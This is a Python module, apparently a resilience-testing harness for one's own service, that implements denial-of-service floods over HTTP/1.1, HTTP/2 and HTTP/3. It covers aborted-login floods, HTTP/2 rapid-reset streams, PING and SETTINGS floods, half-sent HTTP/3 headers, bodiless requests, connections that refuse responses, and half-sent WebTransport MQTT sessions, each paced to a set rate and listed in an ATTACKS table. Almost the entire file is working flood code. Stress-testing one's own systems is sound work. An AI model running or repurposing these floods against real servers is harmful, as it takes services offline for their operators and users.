"""Floods over HTTP/1 to 3."""

import asyncio
import json
import time

import wire
from common import Line, Pace, dial_tls, rounds, spread, tls
from over_quic import client, in_pieces, packets_of, prepared

BAD_LOGIN = json.dumps({"user": "stranger", "password": "not it"}).encode()
# At a time, where each is too little to be worth a call.
BATCH = 50


def logins_http1(site, seconds):
    """2,000 a minute: a connection each, closed behind the request."""
    context, request = tls(site), b"POST /api/v1/session HTTP/1.1\r\nHost: localhost\r\n"
    request += b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(BAD_LOGIN) + BAD_LOGIN

    def one(number):
        with dial_tls(site, context, number) as sock:
            sock.sendall(request)

    return spread(Pace(seconds, 2000 / 60), one)


def http2(site):
    context = tls(site, ["h2"])
    return Line(lambda number: dial_tls(site, context, number))


def reset_logins(site, seconds, login, streams):
    """2,000 a minute: streams that are reset, so many on a connection."""
    line, at = http2(site), {"stream": 1}

    def one(_):
        if at["stream"] > 2 * streams:
            line.close()
        line.open()
        if line.fresh:
            at["stream"] = 1
            line.send(wire.h2_preface())
        line.send(login(at["stream"]))
        time.sleep(0.002)
        line.send(wire.h2_reset(at["stream"]))
        at["stream"] += 2
        line.read()

    return spread(Pace(seconds, 2000 / 60), one)


def logins_http2(site, seconds):
    """Of the platform, up to 100 on a connection."""
    return reset_logins(site, seconds, lambda stream: wire.h2_login(stream, BAD_LOGIN), 100)


def logins_administration(site, seconds):
    """Of the administration API, with long passwords: 10 on a connection, as many as an address may fail at once."""
    body = json.dumps({"user": "stranger", "password": "p" * 4_000}).encode()
    return reset_logins(site, seconds, lambda stream: wire.h2_login(stream, body, b"/api/admin/v1/session"), 10)


def rapid_resets(site, seconds):
    """5,000 requests a second, each reset at once, in one connection after the other."""
    line, at = http2(site), {"stream": 1}

    def one(_):
        line.open()
        if line.fresh:
            at["stream"] = 1
            line.send(wire.h2_preface())
        streams = [at["stream"] + 2 * step for step in range(BATCH)]
        line.send(b"".join(wire.h2_frame(1, 5, stream, wire.H2_REQUEST) + wire.h2_reset(stream) for stream in streams))
        at["stream"] += 2 * BATCH
        line.read()

    return BATCH * spread(Pace(seconds, 5_000 / BATCH), one)


def pings(site, seconds):
    """20,000 PING and SETTINGS a second over 20 connections that read none of the answers."""
    lines = [http2(site) for _ in range(20)]
    frames = (wire.h2_frame(6, 0, 0, bytes(8)) + wire.h2_frame(4, 0, 0, b"")) * BATCH

    def one(number):
        line = lines[number % len(lines)]
        line.open()
        line.sock.settimeout(0.2)
        line.send(wire.h2_preface() + frames if line.fresh else frames)

    return 2 * BATCH * spread(Pace(seconds, 20_000 / BATCH / 2), one)


def logins_http3(site, seconds):
    """2,000 a minute: streams that are reset, up to 100 on a connection."""
    from aioquic.h3.connection import H3Connection

    headers = [
        (b":method", b"POST"),
        (b":scheme", b"https"),
        (b":authority", b"localhost"),
        (b":path", b"/api/v1/session"),
        (b"content-type", b"application/json"),
        (b"content-length", b"%d" % len(BAD_LOGIN)),
    ]
    open_one = {"client": None, "left": 0}

    async def one(number):
        if not open_one["left"]:
            if open_one["client"]:
                open_one["client"].end()
            open_one["client"] = None
            open_one["client"] = await client(site, number, "https", "h3")
            open_one.update(left=100, http=H3Connection(open_one["client"].quic))
        open_one["left"] -= 1
        quic, http = open_one["client"].quic, open_one["http"]
        stream = quic.get_next_available_stream_id()
        http.send_headers(stream, headers)
        http.send_data(stream, BAD_LOGIN, end_stream=False)
        open_one["client"].transmit()
        await asyncio.sleep(0.002)
        quic.reset_stream(stream, 0x10C)
        quic.stop_stream(stream, 0x10C)
        open_one["client"].transmit()

    return rounds(seconds, 2000 / 60, one, at_once=1)


def half_headers_http3(site, seconds):
    """1,280 requests a second with the first 480 bytes of headers of 8 KB: 64 on a connection, as much as its window holds."""
    request = b"\x01\x60\x00" + bytes(480)
    frames = [frame for at in range(64) for frame in in_pieces(4 * at, request)]
    return prepared(seconds, 20, lambda number: client(site, number, "https", "h3"), packets_of(frames), len(frames) // 64)


def h3_request(method, path):
    """Headers with entries of QPACK's static table (RFC 9204 appendix A); the stream goes on."""
    name = b"localhost"
    # Method, scheme https, content type application/json, authority and path.
    block = b"\0\0" + bytes([0xC0 | {b"GET": 17, b"POST": 20}[method], 0xC0 | 23, 0xC0 | 46, 0x50, len(name)]) + name
    block += bytes([0x51, len(path)]) + path
    return bytes([1, len(block)]) + block


def requests_http3(site, seconds, request, connect=lambda site, number: client(site, number, "https", "h3")):
    """20 connections a second with 64 of these requests each."""
    frames = [frame for at in range(64) for frame in in_pieces(4 * at, request)]
    return prepared(seconds, 20, lambda number: connect(site, number), packets_of(frames))


async def deaf(site, number):
    """A connection that takes the first 500 bytes of each stream: the server's settings, but not a page."""
    made = await client(site, number, "https", "h3", max_stream_data=500)
    made.quic._write_stream_limits = lambda **_: None
    return made


def open_requests_http3(site, seconds):
    """1,280 logins a second whose bodies do not come, 64 on a connection."""
    return requests_http3(site, seconds, h3_request(b"POST", b"/api/v1/session"))


def deaf_requests_http3(site, seconds):
    """1,280 requests a second of pages of which 500 bytes are taken, 64 on a connection."""
    return requests_http3(site, seconds, h3_request(b"GET", b"/api/v1/openapi.json"), deaf)


def web_transport(site, seconds):
    """160 sessions of WebTransport a second, 32 on a connection, each with half a CONNECT of MQTT."""
    from aioquic.h3.connection import H3Connection

    head = [(b":method", b"CONNECT"), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", b"/mqtt")]
    head.append((b":protocol", b"webtransport"))
    half, opened = wire.connect("w" * 60, "u" * 1_000, "p" * 1_000)[:-16], {"sessions": 0}

    async def one(number):
        made = await client(site, number, "https", "h3", max_datagram_frame_size=65_536)
        http = H3Connection(made.quic, enable_webtransport=True)
        made.transmit()
        # The server's settings come before a session may begin.
        await asyncio.sleep(0.05)
        for _ in range(32):
            session = made.quic.get_next_available_stream_id()
            http.send_headers(session, head)
            made.quic.send_stream_data(http.create_webtransport_stream(session), half)
            opened["sessions"] += 1
        made.transmit()

    tried = rounds(seconds, 5, one)
    return opened["sessions"] or tried


ATTACKS = {
    "sessions of WebTransport": web_transport,
    "aborted logins, HTTP/1.1": logins_http1,
    "aborted logins, HTTP/2": logins_http2,
    "aborted logins, HTTP/3": logins_http3,
    "aborted logins, administration": logins_administration,
    "rapid resets, HTTP/2": rapid_resets,
    "PING and SETTINGS, HTTP/2": pings,
    "half the headers, HTTP/3": half_headers_http3,
    "open requests, HTTP/3": open_requests_http3,
    "responses not taken, HTTP/3": deaf_requests_http3,
}
